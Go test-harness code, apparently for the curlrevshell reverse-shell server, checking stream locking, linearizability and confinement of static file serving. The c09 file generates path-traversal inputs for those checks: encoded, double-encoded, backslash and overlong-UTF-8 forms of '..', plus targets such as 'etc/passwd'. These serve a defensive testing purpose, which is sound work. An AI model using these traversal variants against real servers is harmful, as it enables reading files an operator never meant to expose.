			if _, ok := waitEv(stallSeq, hookEv("hook", l.a, "done", l.dir)); !ok {
				viol("stream-does-not-end", fmt.Sprintf("the %s stream of the previous shell did not finish its tear-down after the terminal resumed", l.dir))
				return
			}
		}
		refusedHalf := func(ev bk.Event) bool { return ev.S != bk.MsgNew }
		// one attempt: a half attached after the other half was refused
		firstDec, lastDec := dec["input"], dec["output"]
		if lastDec.Seq < firstDec.Seq {
			firstDec, lastDec = lastDec, firstDec
		}
		whole := !refusedHalf(firstDec) && !refusedHalf(lastDec)
		keptHalf := refusedHalf(firstDec) && !refusedHalf(lastDec)
		if keptHalf {
			viol("refused-bidirectional-attempt-keeps-other-half", fmt.Sprintf("the %s half of an /io request was attached (event #%d) after its %s half had been refused (event #%d, %q): the refused attempt was not ended and can now be sent operator input; previous shell %s, order %s, holder %s",
				lastDec.Dir, lastDec.Seq, firstDec.Dir, firstDec.Seq, firstDec.S, c.pre, c.order, c.holder))
		}
		if !whole {
			// refused as a whole or in part: it must be ended at once
			select {
			case <-A.Ret:
			case <-time.After(bk.Bound):
				viol("refused-attempt-not-ended", "an /io request a half of which was refused did not return")
			}
		} else {
			// both halves were attached (the tear-down completed in front of both): it is the shell now
			nWhole.Add(1)
			r.Count("lockq_requests_attached_whole", 1)
		}
		if holder != A {
			select {
			case <-holder.Ret:
			case <-time.After(bk.Bound):
				viol("refused-attempt-not-ended", "an attempt without an ID was refused but Connect did not return")
			}
		}
		if !flushTerminal("END") {
			inconc("closing marker line not seen on the operator channel")
			return
		}
		evs := w.Log.Snapshot()
		if refusedHalf(firstDec) {
			// refused from the start: no operator input, no output shown, the operator is told
			if b := A.Wr.Bytes(); len(b) > 0 {
				viol("refused-input-got-bytes", fmt.Sprintf("an /io request whose first decision was a refusal (%q) was sent operator input %q", firstDec.S, b))
			}
			told := false
			for _, e := range evs {
				if e.Kind == "op" && e.Plain && strings.Contains(e.S, tok) {
					viol("refused-output-displayed", fmt.Sprintf("an /io request whose first decision was a refusal (%q) had its output %q displayed", firstDec.S, e.S))
				}
				if e.Kind == "op" && !e.Plain && e.Color == int(opshell.ColorRed) && strings.Contains(e.S, A.Addr) {
					told = true
				}
			}
			if !told && firstDec.S != msgCanceled {
				viol("refusal-not-announced", fmt.Sprintf("an /io request was refused (%q) but no red operator notice names %s", firstDec.S, A.Addr))
			}
		}
		stuck := closeWorld()
		if w.DoStuck {
			viol("shutdown-does-not-finish", "at shutdown every Connect call had returned and every transport was closed, yet Do did not finish")
		}
		for _, a := range stuck {
			viol("connect-does-not-return", fmt.Sprintf("Connect of attempt %d (%s) did not return after its context was cancelled and its transport closed", a.ID, a.Kind))
		}

		// ---- the schedule, from the log ----
		held := false
		{
			k := 0
			for _, e := range evs[stallSeq:] {
				if e.Kind != "op" {
					continue
				}
				k++
				if opLine(holder, notice)(e) {
					held = k >= c.och+2 && e.Seq > resumeSeq && insideEv.Seq < resumeSeq
					break
				}
			}
		}
		across := func(pred func(bk.Event) bool, end bk.Event) bool {
			for _, e := range evs[stallSeq:] {
				if pred(e) {
					return e.Seq < resumeSeq && end.Seq > resumeSeq
				}
			}
			return false
		}
		queued := across(hookEv("passed", A, "admit", second), dec[second])
		if c.holder == "stranger" {
			queued = queued && across(hookEv("passed", A, "admit", c.first), dec[c.first])
		}
		for _, l := range lasts {
			var done bk.Event
			for _, e := range evs[resumeSeq:] {
				if hookEv("hook", l.a, "done", l.dir)(e) {
					done = e
					break
				}
			}
			queued = queued && across(hookEv("passed", l.a, "release", l.dir), done)
		}
		r.Eval(1)
		r.Count("lockq_cases", 1)
		r.Count("lockq_decisions", 2)
		r.Count("lockq_pre_"+c.pre, 1)
		r.Count("lockq_holder_"+c.holder, 1)
		r.Count("lockq_second_half_"+second, 1)
		r.Count("lockq_second_half_decision:"+dec[second].S, 1)
		if held && queued {
			nProven.Add(1)
			r.Count("lockq_cases_holder_inside_and_queue_behind_it_proven", 1)
			if c.order == "release-first" {
				nCleanOrder.Add(1)
				r.Count("lockq_cases_teardown_queued_in_front_of_undecided_half", 1)
			}
		}
		r.Distinct(fmt.Sprintf("lockq %s last=%s end=%s first=%s holder=%s/%s order=%s och=%d -> %s/%s", c.pre, c.lastDir, c.endHow, c.first, c.holder, c.sdir, c.order, c.och, dec[c.first].S, dec[second].S))
		if i < 2 {
			r.Sample("lockq", map[string]any{"case": fmt.Sprintf("%+v", c), "schedule_proven": held && queued, "decisions": map[string]string{c.first: dec[c.first].S, second: dec[second].S}, "log_tail": w.Log.Tail(24)})
		}
	})
	r.Logf("lockq done: %d cases, schedule proven in %d (tear-down queued in front of the undecided half in %d), request attached whole in %d", n, nProven.Load(), nCleanOrder.Load(), nWhole.Load())
	if !r.Replaying() {
		r.Floor("lockq_cases", int64(n))
		r.Floor("lockq_cases_holder_inside_and_queue_behind_it_proven", int64(n*9/10))
		r.Floor("lockq_cases_teardown_queued_in_front_of_undecided_half", int64(n/2))
		for _, p := range []string{"tear-io", "tear-uni", "half-uni", "full-uni", "full-io"} {
			r.Floor("lockq_pre_"+p, int64(n/5))
		}
		r.Floor("lockq_holder_sibling", int64(n/2))
		r.Floor("lockq_holder_stranger", int64(n/4))
		r.Floor("lockq_second_half_input", int64(n/3))
		r.Floor("lockq_second_half_output", int64(n/3))
	}
}

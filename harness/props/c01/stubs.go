package c01

import (
	"runtime"
	"time"

	"github.com/anishathalye/porcupine"

	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/bk"
)

// stress: free-running goroutines, random yields at the hook points, the
// boundary history judged by porcupine against the one-sided model.
func stress(r *mon.Run) {
	n := r.N(3000, 60000)
	mon.Parallel(n, runtime.NumCPU(), func(i int) {
		if !r.Want("stress", i) {
			return
		}
		rng := r.Rng("stress", i)
		plan := bk.StressPlan{Workers: 2 + rng.IntN(5), Attempts: 1 + rng.IntN(3), Keys: []string{"k", "K", "k1"}[:1+rng.IntN(3)], IOShare: rng.IntN(5)}
		if plan.Workers*plan.Attempts > 9 {
			plan.Attempts = 1
		}
		w, res := bk.RunStress(rng, plan, 20*time.Second)
		if w == nil {
			r.Inconclusive("world")
			return
		}
		r.Eval(1)
		r.Count("stress_histories", 1)
		r.Count("stress_operations", int64(len(res.Ops)))
		switch res.Verdict {
		case porcupine.Ok:
			r.Count("stress_linearizable", 1)
		case porcupine.Unknown:
			r.Inconclusive("porcupine timed out on a stress history")
		case porcupine.Illegal:
			r.Violate("stress", i, "stress-history-not-linearizable", "a free-running history of attempts and releases has no serialisation in which every admitted attempt was admissible (two streams of one direction, different IDs, or admission during tear-down)", map[string]any{"history": res.Describe, "decision_order": res.OrderSig})
		}
		if res.Stuck > 0 {
			r.Violate("stress", i, "connect-does-not-return", "a Connect call did not return at the end of a stress history", map[string]any{"decision_order": res.OrderSig})
		}
		r.Distinct("stress:" + res.OrderSig)
		if i < 1 {
			r.Sample("stress", map[string]any{"plan": plan, "decision_order": res.OrderSig})
		}
	})
	r.Floor("stress_histories", int64(n*9/10))
}

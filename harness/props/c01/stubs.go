package c01

import "github.com/magisterquis/curlrevshell/verifharness/mon"

func stress(r *mon.Run)      {}
func httpMapping(r *mon.Run) {}

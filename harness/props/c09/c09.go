// Package c09: static files are confined to the chosen tree and never shadow
// the shell endpoints; every file request is reported to the operator.
package c09

import (
	"bufio"
	"bytes"
	"fmt"
	"html"
	"io"
	"math/rand/v2"
	"mime"
	"mime/multipart"
	"net/http"
	"net/textproto"
	"net/url"
	"os"
	"path"
	"path/filepath"
	"regexp"
	"runtime"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"
	"unicode/utf8"

	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/bk"
	"github.com/magisterquis/curlrevshell/verifharness/mon/crs"
	"github.com/magisterquis/curlrevshell/verifharness/mon/hk"
)

const Level = "exploration"

const host = "h.example"

// ---- generated trees ------------------------------------------------------------

type tree struct {
	idx      int
	caseDir  string
	root     string
	files    map[string]string   // rel path ("a/b") -> content
	tokens   map[string]string   // rel path -> token
	dirs     map[string][]string // rel dir ("" = root) -> entry names, directories with a trailing "/"
	byBody   map[string]string   // content -> rel path
	byList   map[string]string   // canonical entry set -> rel dir
	fileL    []string            // sorted rel paths of files
	dirL     []string            // sorted rel paths of directories
	single   string              // rel path of the file served in single-file mode
	canary   []string            // strings that must never appear in any response
	aims     []aim               // positions of canaries relative to the root
	canaryL  []string            // for the sample: what was placed outside
	ntok     int
	ids      []string          // every id has a file i/<id> and a file o/<id>
	ioDir    bool              // "io" is a directory (with files) instead of a file
	cDir     bool              // "c" is a directory (with files) instead of a file
	noFile   string            // an id without files
	roots    map[string]string // root kind -> the path given as -serve-files-from
	rootsL   map[string]string // root kind -> how the path resolves (for samples and witnesses)
	canaryAt map[string]bool   // absolute path of every canary file
	spAims   []spAim           // canaries outside the root whose NAME is one a request may end in (special.go)
	nSpecial int
}

type aim struct {
	ups  int    // levels above the served root
	rest string // path below that level ("" = the directory itself)
}

func newToken(rng *rand.Rand, n int) string {
	return fmt.Sprintf("T%012x-%d-%012xZ", rng.Uint64()&0xffffffffffff, n, rng.Uint64()&0xffffffffffff)
}

// ids of shell endpoints for which same-named files i/<id> and o/<id> are made
var idPool = []string{"abc", "kittens", "0", "a b", "ünï", "%41", "x.y", "-", "_id", "ID", "i", "o", "c", "io", "q?x", "h#x", "a&b", "semi;colon", "UPPER.txt"}

var namePool = []string{
	"a b", "100%", "%41", "%2e%2e", "ünï", "日本語", "..x", "x..", "...", ".hidden", ".git",
	"f.txt", "data.bin", "sub", "d1", "a;b", "q?x", "h#x", "a&b<c>", "q\"uote", "plus+sign",
	"c", "io", "i", "o", "x", "id", "back\\slash", "semi..;", "~tilde", "star*", "colon:x", "..;", "%", "%zz",
	"index.html", "UPPER", "café ☃", "%252e", "dot.", ". .",
}

func (t *tree) addDir(rel string) {
	os.MkdirAll(filepath.Join(t.root, filepath.FromSlash(rel)), 0o755)
	if _, ok := t.dirs[rel]; !ok {
		t.dirs[rel] = []string{}
		if rel != "" {
			p := path.Dir(rel)
			if p == "." {
				p = ""
			}
			t.dirs[p] = append(t.dirs[p], path.Base(rel)+"/")
		}
	}
}

func (t *tree) addFile(rng *rand.Rand, rel string) {
	t.ntok++
	tok := newToken(rng, t.ntok)
	content := strings.Repeat(tok+"\n", 1+rng.IntN(30))
	if err := os.WriteFile(filepath.Join(t.root, filepath.FromSlash(rel)), []byte(content), 0o644); err != nil {
		panic(err)
	}
	t.files[rel] = content
	t.tokens[rel] = tok
	t.byBody[content] = rel
	p := path.Dir(rel)
	if p == "." {
		p = ""
	}
	t.dirs[p] = append(t.dirs[p], path.Base(rel))
}

func (t *tree) exists(rel string) bool {
	if _, ok := t.files[rel]; ok {
		return true
	}
	_, ok := t.dirs[rel]
	return ok
}

func join(dir, name string) string {
	if dir == "" {
		return name
	}
	return dir + "/" + name
}

func (t *tree) populate(rng *rand.Rand, dir string, depth int) {
	nf := 2 + rng.IntN(5)
	for k := 0; k < nf; k++ {
		n := namePool[rng.IntN(len(namePool))]
		if rel := join(dir, n); !t.exists(rel) && !(n == "index.html" && rng.IntN(3) != 0) {
			t.addFile(rng, rel)
		}
	}
	if depth < 2 {
		nd := 1 + rng.IntN(3)
		if depth == 1 {
			nd = rng.IntN(3)
		}
		for k := 0; k < nd; k++ {
			n := namePool[rng.IntN(len(namePool))]
			if n == "index.html" {
				continue
			}
			rel := join(dir, n)
			if t.exists(rel) {
				continue
			}
			t.addDir(rel)
			t.populate(rng, rel, depth+1)
		}
	}
}

// canaryFile writes a file outside the served root; its content token (and
// name token, if the name carries one) must never come back in a response.
func (t *tree) canaryFile(rng *rand.Rand, abs string, nameTok string) {
	t.ntok++
	tok := newToken(rng, t.ntok)
	os.MkdirAll(filepath.Dir(abs), 0o755)
	if err := os.WriteFile(abs, []byte(strings.Repeat("CANARY "+tok+"\n", 1+rng.IntN(20))), 0o644); err != nil {
		panic(err)
	}
	t.canary = append(t.canary, tok)
	if nameTok != "" {
		t.canary = append(t.canary, nameTok)
	}
	t.canaryL = append(t.canaryL, abs)
	t.canaryAt[abs] = true
}

func genTree(r *mon.Run, ti int) *tree {
	rng := r.Rng("tree", ti)
	t := &tree{idx: ti, files: map[string]string{}, tokens: map[string]string{}, dirs: map[string][]string{}, byBody: map[string]string{}, byList: map[string]string{}, canaryAt: map[string]bool{}}
	t.caseDir = filepath.Join(r.Work, fmt.Sprintf("case%d", ti))
	t.root = filepath.Join(t.caseDir, "root")
	t.addDir("")
	// files and directories named like the shell endpoints
	// (c and io are files in two trees out of three; a directory with an index.html and a file x in the others)
	xr := r.Rng("treex", ti)
	t.ioDir, t.cDir = ti%3 == 1, ti%3 == 2
	for _, n := range []string{"c", "io"} {
		if n == "c" && t.cDir || n == "io" && t.ioDir {
			t.addDir(n)
			t.addFile(rng, n+"/index.html")
			t.addFile(rng, n+"/x")
		} else {
			t.addFile(rng, n)
		}
	}
	t.ids = []string{"x", "id"}
	for len(t.ids) < 4 {
		id := idPool[xr.IntN(len(idPool))]
		dup := false
		for _, o := range t.ids {
			dup = dup || o == id
		}
		if !dup {
			t.ids = append(t.ids, id)
		}
	}
	t.ids = append(t.ids, fmt.Sprintf("%08x", xr.Uint32()))
	t.noFile = fmt.Sprintf("nofile-%06x", xr.Uint32()&0xffffff)
	for _, d := range []string{"i", "o"} {
		t.addDir(d)
		for _, id := range t.ids {
			t.addFile(rng, d+"/"+id)
		}
	}
	t.addDir("empty")
	t.addDir("withindex")
	t.addFile(rng, "withindex/index.html")
	t.addFile(rng, "withindex/other.txt")
	t.addDir("sub")
	t.addFile(rng, "sub/f.txt")
	t.addFile(rng, "sub/c")
	t.populate(rng, "sub", 1)
	t.populate(rng, "", 0)
	for rel := range t.files {
		t.fileL = append(t.fileL, rel)
	}
	for rel, ents := range t.dirs {
		t.dirL = append(t.dirL, rel)
		t.byList[listKey(ents)] = rel
	}
	sort.Strings(t.fileL)
	sort.Strings(t.dirL)
	// the file of single-file mode: prefer one below the root so that its siblings are reachable by "/../"
	var deep []string
	for _, f := range t.fileL {
		if strings.Contains(f, "/") {
			deep = append(deep, f)
		}
	}
	t.single = deep[rng.IntN(len(deep))]

	// canaries: siblings and parents of the served root
	nt := func() string {
		return fmt.Sprintf("N%012x%012xZ", rng.Uint64()&0xffffffffffff, rng.Uint64()&0xffffffffffff)
	}
	t.canaryFile(rng, filepath.Join(t.caseDir, "canary-sibling.txt"), "")
	t.canaryFile(rng, filepath.Join(t.caseDir, "secret", "file"), "")
	n1 := nt()
	t.canaryFile(rng, filepath.Join(t.caseDir, "secret", "silent-"+n1+".txt"), n1)
	n2 := nt()
	t.canaryFile(rng, filepath.Join(t.caseDir, "sibdir-"+n2, "inner.txt"), n2)
	n3 := nt()
	t.canaryFile(rng, filepath.Join(t.caseDir, "silent-"+n3), n3)
	t.canaryFile(rng, filepath.Join(t.caseDir, "rootx", "secret.txt"), "")
	t.canaryFile(rng, filepath.Join(t.caseDir, "root.bak"), "")
	t.canaryFile(rng, filepath.Join(t.caseDir, "x"), "")
	t.canaryFile(rng, filepath.Join(t.caseDir, "c"), "")
	n4 := nt()
	t.canaryFile(rng, filepath.Join(r.Work, fmt.Sprintf("canary-top-%d.txt", ti)), "")
	t.canaryFile(rng, filepath.Join(r.Work, fmt.Sprintf("topsilent-%d-%s", ti, n4)), n4)
	abs := strings.TrimPrefix(filepath.Join(t.caseDir, "canary-sibling.txt"), "/")
	t.aims = []aim{
		{1, "canary-sibling.txt"}, {1, "secret/file"}, {1, "secret/"}, {1, "secret"}, {1, ""}, {1, "rootx/secret.txt"},
		{1, "root.bak"}, {1, "x"}, {1, "c"}, {2, fmt.Sprintf("canary-top-%d.txt", ti)}, {2, ""}, {12, "etc/passwd"}, {30, abs},
		{30, strings.TrimPrefix(filepath.Join(t.caseDir, "secret", "file"), "/")},
		{1, "links/canary-linkside.txt"}, {1, "links/"},
	}

	// the configured root itself: named directly or through symbolic links kept beside the tree
	links := filepath.Join(t.caseDir, "links")
	os.MkdirAll(links, 0o755)
	t.canaryFile(rng, filepath.Join(links, "canary-linkside.txt"), "")
	fileAbs := filepath.Join(t.root, filepath.FromSlash(t.single))
	t.roots = map[string]string{"dir": t.root, "file": fileAbs, "unset": ""}
	t.rootsL = map[string]string{"dir": "directory", "file": "regular file", "unset": "(not set)"}
	t.roots["symlink-to-dir"], t.rootsL["symlink-to-dir"] = makeLinks(xr, links, "ld", t.root, 1)
	t.roots["symlink-to-file"], t.rootsL["symlink-to-file"] = makeLinks(xr, links, "lf"+filepath.Ext(fileAbs), fileAbs, 1)
	t.roots["symlink-chain-to-dir"], t.rootsL["symlink-chain-to-dir"] = makeLinks(xr, links, "cd", t.root, 2+xr.IntN(3))
	t.roots["symlink-chain-to-file"], t.rootsL["symlink-chain-to-file"] = makeLinks(xr, links, "cf", fileAbs, 2+xr.IntN(3))
	t.roots["dangling-symlink"], t.rootsL["dangling-symlink"] = makeLinks(xr, links, "dangling", filepath.Join(links, fmt.Sprintf("nowhere-%08x", xr.Uint32())), 1+xr.IntN(2))
	// canaries named like the things requests end in (drawn last: the tree itself does not depend on them)
	t.plantSpecials(r, rng)
	return t
}

// makeLinks creates name -> name.1 -> ... -> final in dir (hops symbolic
// links, each written absolute or relative) and returns the first link.
func makeLinks(rng *rand.Rand, dir, name, final string, hops int) (string, string) {
	desc := ""
	next := final
	for k := hops - 1; k >= 0; k-- {
		ln := filepath.Join(dir, name)
		if k > 0 {
			ln = filepath.Join(dir, fmt.Sprintf("%s.%d", name, k))
		}
		to := next
		if rng.IntN(2) == 0 {
			if rel, err := filepath.Rel(dir, next); err == nil {
				to = rel
			}
		}
		if err := os.Symlink(to, ln); err != nil {
			panic(err)
		}
		desc = " -> " + to + desc
		next = ln
	}
	return next, filepath.Base(next) + desc
}

func listKey(ents []string) string {
	s := append([]string(nil), ents...)
	sort.Strings(s)
	return strings.Join(s, "\x00")
}

// ---- the small reference: what a raw target means -------------------------------

var cleanRaw [256]bool

func init() {
	for _, c := range "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-._~!$&'()*+,;=:@" {
		cleanRaw[c] = true
	}
}

type info struct {
	form     string // origin absolute star other
	escPath  string // path part as written
	query    string
	valid    bool     // no control bytes or spaces, every escape well-formed
	cleaned  string   // the escaped path with dot and empty segments removed (what the mux redirects to)
	muxRedir bool     // cleaned != escPath: the router answers 301 before any handler
	shell    string   // "", c, i, o, io: the cleaned path names a shell endpoint
	shellID  string   // decoded {id}
	segs     []string // decoded segments of escPath (when valid)
	clean    bool     // origin-form, valid, nothing to clean, no encoded dot segment / slash / backslash / control byte
}

func unhex(c byte) int {
	switch {
	case c >= '0' && c <= '9':
		return int(c - '0')
	case c >= 'a' && c <= 'f':
		return int(c-'a') + 10
	case c >= 'A' && c <= 'F':
		return int(c-'A') + 10
	}
	return -1
}

func decodeSeg(s string) (string, bool) {
	if !strings.Contains(s, "%") {
		return s, true
	}
	var b []byte
	for i := 0; i < len(s); i++ {
		if s[i] != '%' {
			b = append(b, s[i])
			continue
		}
		if i+2 >= len(s) {
			return "", false
		}
		h, l := unhex(s[i+1]), unhex(s[i+2])
		if h < 0 || l < 0 {
			return "", false
		}
		b = append(b, byte(h<<4|l))
		i += 2
	}
	return string(b), true
}

// validEncoded: every byte may stand as it is in an escaped path.
func validEncoded(s string) bool {
	for i := 0; i < len(s); i++ {
		if c := s[i]; !cleanRaw[c] && c != '[' && c != ']' && c != '%' && c != '/' {
			return false
		}
	}
	return true
}

// reescape writes a decoded path the way net/url does.
func reescape(s string) string {
	var sb strings.Builder
	for i := 0; i < len(s); i++ {
		c := s[i]
		switch {
		case c >= 'a' && c <= 'z', c >= 'A' && c <= 'Z', c >= '0' && c <= '9', strings.IndexByte("-_.~$&+,/:;=@", c) >= 0:
			sb.WriteByte(c)
		default:
			fmt.Fprintf(&sb, "%%%02X", c)
		}
	}
	return sb.String()
}

func goCleanPath(p string) string {
	if p == "" {
		return "/"
	}
	if p[0] != '/' {
		p = "/" + p
	}
	np := path.Clean(p)
	if p[len(p)-1] == '/' && np != "/" {
		np += "/"
	}
	return np
}

var stdMethods = map[string]bool{"GET": true, "HEAD": true, "POST": true, "PUT": true, "OPTIONS": true, "DELETE": true, "PATCH": true}

func analyse(method, target string) info {
	inf := info{}
	var p string
	switch {
	case method == "CONNECT" && !strings.HasPrefix(target, "/"):
		// read as an authority, whatever it looks like
		inf.form = "other"
		return inf
	case target == "*":
		inf.form = "star"
		return inf
	case strings.HasPrefix(target, "/"):
		inf.form = "origin"
		p = target
	case len(target) > 8 && (strings.EqualFold(target[:7], "http://") || strings.EqualFold(target[:8], "https://")):
		inf.form = "absolute"
		rest := target[strings.Index(target, "://")+3:]
		if i := strings.IndexAny(rest, "/?"); i >= 0 {
			p = rest[i:]
		} else {
			p = ""
		}
	default:
		inf.form = "other"
		return inf
	}
	inf.escPath, inf.query, _ = strings.Cut(p, "?")
	inf.valid = true
	for i := 0; i < len(target); i++ {
		if target[i] <= 0x20 || target[i] == 0x7f {
			inf.valid = false
		}
	}
	if inf.escPath != "" {
		for _, s := range strings.Split(inf.escPath[1:], "/") {
			d, ok := decodeSeg(s)
			if !ok {
				inf.valid = false
			}
			inf.segs = append(inf.segs, d)
		}
	}
	// The router works on the escaped path as written, unless that contains a
	// byte that may not stand unescaped in a path (backslash, quote, raw UTF-8,
	// ...): then it works on the re-encoding of the decoded path, in which an
	// encoded slash has become a separator and an encoded dot a dot.
	eff := inf.escPath
	if inf.valid && !validEncoded(eff) {
		eff = reescape(strings.Join(inf.segs, "/"))
		if inf.escPath != "" {
			eff = "/" + eff
		}
	}
	inf.cleaned = goCleanPath(eff)
	if method == "CONNECT" {
		// the router matches a CONNECT request on the path as written: nothing is cleaned, nothing redirected
		inf.cleaned = eff
		if eff == "" {
			inf.cleaned = "/"
		}
	}
	inf.muxRedir = inf.cleaned != eff
	if inf.valid {
		var cs []string
		ok := true
		for _, s := range strings.Split(inf.cleaned[1:], "/") {
			d, k := decodeSeg(s)
			ok = ok && k
			cs = append(cs, d)
		}
		if ok {
			switch {
			case len(cs) == 1 && cs[0] == "c":
				inf.shell = "c"
			case len(cs) == 2 && cs[0] == "i" && cs[1] != "":
				inf.shell, inf.shellID = "i", cs[1]
			case len(cs) == 2 && cs[0] == "o" && cs[1] != "":
				inf.shell, inf.shellID = "o", cs[1]
			case cs[0] == "io":
				inf.shell = "io"
			}
		}
	}
	// clean: reaches the catch-all handler as written
	inf.clean = inf.form == "origin" && inf.valid && !inf.muxRedir && inf.shell == "" && stdMethods[method]
	if inf.clean {
		for i := 0; i < len(inf.escPath); i++ {
			if c := inf.escPath[i]; !cleanRaw[c] && c != '%' && c != '/' {
				inf.clean = false
			}
		}
		for i := 0; i < len(inf.query); i++ {
			if c := inf.query[i]; c < 0x21 || c > 0x7e || c == '#' {
				inf.clean = false
			}
		}
		for _, d := range inf.segs {
			if d == "." || d == ".." {
				inf.clean = false
			}
			for i := 0; i < len(d); i++ {
				if d[i] == '/' || d[i] == '\\' || d[i] < 0x20 || d[i] == 0x7f {
					inf.clean = false
				}
			}
		}
	}
	return inf
}

// expectDir is the reference answer of directory mode for a clean target
// (evidence of model fidelity only; the statement does not promise it).
func (t *tree) expectDir(inf info) (kind, rel string) {
	segs := append([]string(nil), inf.segs...)
	slash := false
	if n := len(segs); n > 0 && segs[n-1] == "" {
		slash = true
		segs = segs[:n-1]
	}
	rel = strings.Join(segs, "/")
	if !slash && len(segs) > 0 && segs[len(segs)-1] == "index.html" {
		// net/http sends the client to "./"; the file itself would be just as much inside the tree
		if _, ok := t.files[rel]; ok {
			return "index", rel
		}
		return "redirect", rel
	}
	if _, ok := t.files[rel]; ok {
		if slash {
			return "redirect", rel
		}
		return "file", rel
	}
	if _, ok := t.dirs[rel]; ok {
		if !slash {
			return "redirect", rel
		}
		if _, ok := t.files[join(rel, "index.html")]; ok {
			return "file", join(rel, "index.html")
		}
		return "listing", rel
	}
	return "missing", rel
}

// ---- generated targets ----------------------------------------------------------

type tgt struct {
	class  string
	method string
	target string
	proto  string
	rangeV string
	noHost bool
	weak   bool // the request is odd in a way other than its target: no strict expectations
	curl   bool
	mx     bool   // a cell of the shell-endpoint x method matrix
	body   string // matrix cells: none, cl0 (Content-Length: 0), cl (a body that ends), chunked (a body that stays open)
	shadow bool   // matrix cells: a file or directory of the same name exists in the tree
	aimAt  string // special-name targets: the canary outside the root the target was written for
}

// ---- the shell endpoint x method matrix --------------------------------------------

var mxStd = []string{"GET", "HEAD", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE"}
var mxOdd = []string{"get", "Get", "PROPFIND", "MKCOL", "FOO", "BREW", "G%54", "M-SEARCH", "X!#$&'*+-.^_`|~", "LOCK", "PURGE", "post"}

func mclass(m string) string {
	for _, s := range mxStd {
		if s == m {
			return m
		}
	}
	return "made-up"
}

// canonical: the ways the project's own callback script uses the streaming
// endpoints (curl GET on /i/{id}; curl -T / POST with a body on /o/{id} and /io).
func canonical(shell, method, body string) bool {
	switch shell {
	case "i":
		return method == "GET"
	case "o":
		return (method == "POST" || method == "PUT") && (body == "cl" || body == "chunked")
	case "io":
		return (method == "POST" || method == "PUT") && body == "chunked"
	}
	return false
}

// mxTargets lists (shell endpoint path) x (method) cells for one server; with
// frac > 1 roughly one cell in frac is kept.
func (t *tree) mxTargets(rng *rand.Rand, frac int) []tgt {
	type ep struct {
		path   string
		shadow bool
	}
	eps := []ep{{"/c", true}, {"/%63", true}, {"/io", true}, {"/io/", t.ioDir}, {"/io/x", t.ioDir}, {"/i%6f", true}}
	for _, id := range append(append([]string(nil), t.ids...), t.noFile) {
		for _, d := range []string{"i", "o"} {
			eps = append(eps, ep{"/" + d + "/" + escStyle(rng, id, rng.IntN(3)), id != t.noFile})
		}
	}
	methods := append([]string(nil), mxStd...)
	for k := 0; k < 2; k++ {
		methods = append(methods, pick(rng, mxOdd))
	}
	var tok strings.Builder
	for k, n := 0, 3+rng.IntN(6); k < n; k++ {
		tok.WriteByte("ABCDEFGHIJKLMNOPQRSTUVWXYZ"[rng.IntN(26)])
	}
	methods = append(methods, tok.String()+"X")
	var out []tgt
	for _, e := range eps {
		for _, m := range methods {
			body := "none"
			switch {
			case m == "HEAD":
			case strings.HasPrefix(e.path, "/i/"):
				// the input endpoint never reads a request body, and a server that has an unread body
				// before it does not notice the client going away: only bodiless requests there
				body = pick(rng, []string{"none", "cl0"})
			default:
				body = pick(rng, []string{"none", "cl0", "cl", "chunked", "chunked"})
			}
			if frac > 1 && rng.IntN(frac) != 0 {
				continue
			}
			out = append(out, tgt{class: "shell-matrix", method: m, target: e.path, proto: "HTTP/1.1", mx: true, body: body, shadow: e.shadow})
		}
	}
	return out
}

func escMin(s string) string {
	var sb strings.Builder
	for i := 0; i < len(s); i++ {
		if cleanRaw[s[i]] {
			sb.WriteByte(s[i])
		} else {
			fmt.Fprintf(&sb, "%%%02X", s[i])
		}
	}
	return sb.String()
}

func escStyle(rng *rand.Rand, s string, style int) string {
	switch style {
	case 0:
		return escMin(s)
	case 1:
		var sb strings.Builder
		for i := 0; i < len(s); i++ {
			fmt.Fprintf(&sb, "%%%02x", s[i])
		}
		return sb.String()
	default:
		var sb strings.Builder
		for i := 0; i < len(s); i++ {
			if cleanRaw[s[i]] && rng.IntN(3) != 0 {
				sb.WriteByte(s[i])
			} else if rng.IntN(2) == 0 {
				fmt.Fprintf(&sb, "%%%02x", s[i])
			} else {
				fmt.Fprintf(&sb, "%%%02X", s[i])
			}
		}
		return sb.String()
	}
}

// encRel turns an in-tree relative path into a clean target.
func encRel(rng *rand.Rand, rel string, style int) string {
	if rel == "" {
		return ""
	}
	segs := strings.Split(rel, "/")
	for i, s := range segs {
		e := escStyle(rng, s, style)
		// an all-dots segment must not be produced by escaping (it is not: dots are clean) and
		// a fully escaped ".." would read as an encoded dot segment; names here are never "." or "..".
		segs[i] = e
	}
	return "/" + strings.Join(segs, "/")
}

func pick[T any](rng *rand.Rand, s []T) T { return s[rng.IntN(len(s))] }

func (t *tree) existing(rng *rand.Rand) string {
	if rng.IntN(3) == 0 {
		d := pick(rng, t.dirL)
		e := encRel(rng, d, rng.IntN(3))
		if rng.IntN(3) != 0 || d == "" {
			e += "/"
		}
		return e
	}
	return encRel(rng, pick(rng, t.fileL), rng.IntN(3))
}

type style struct {
	dd  []string // spellings of ".."
	sep []string // spellings of "/"
}

var styles = map[string]style{
	"dotseg-plain":   {[]string{"..", "..", "..", "./..", "../."}, []string{"/"}},
	"dotseg-encoded": {[]string{"%2e%2e", "%2E%2E", ".%2e", "%2e.", "%2E.", ".%2E", "%2e%2E"}, []string{"/"}},
	"double-encoded": {[]string{"%252e%252e", "%252E%252E", ".%252e", "%25%32%65%25%32%65", "%252e."}, []string{"/", "/", "%252f"}},
	"encoded-slash":  {[]string{"..", "%2e%2e", ".%2e"}, []string{"%2f", "%2F", "%2f", "/%2f", "%2f/"}},
	"backslash":      {[]string{"..", "%2e%2e", ".."}, []string{"\\", "%5c", "%5C", "\\/", "/\\"}},
	"semicolon":      {[]string{"..;", "..;x", ";..", "..;/.."}, []string{"/"}},
	"overlong":       {[]string{"%c0%ae%c0%ae", "%e0%80%ae%e0%80%ae", "%c0%2e%c0%2e", "\xc0\xae\xc0\xae", "%ef%bc%8e%ef%bc%8e"}, []string{"/", "%c0%af", "%e0%80%af"}},
	"trailing-dot":   {[]string{"...", ".. ", "..%20", "..%09", "..%00", "%20..", "....", "..."}, []string{"/"}},
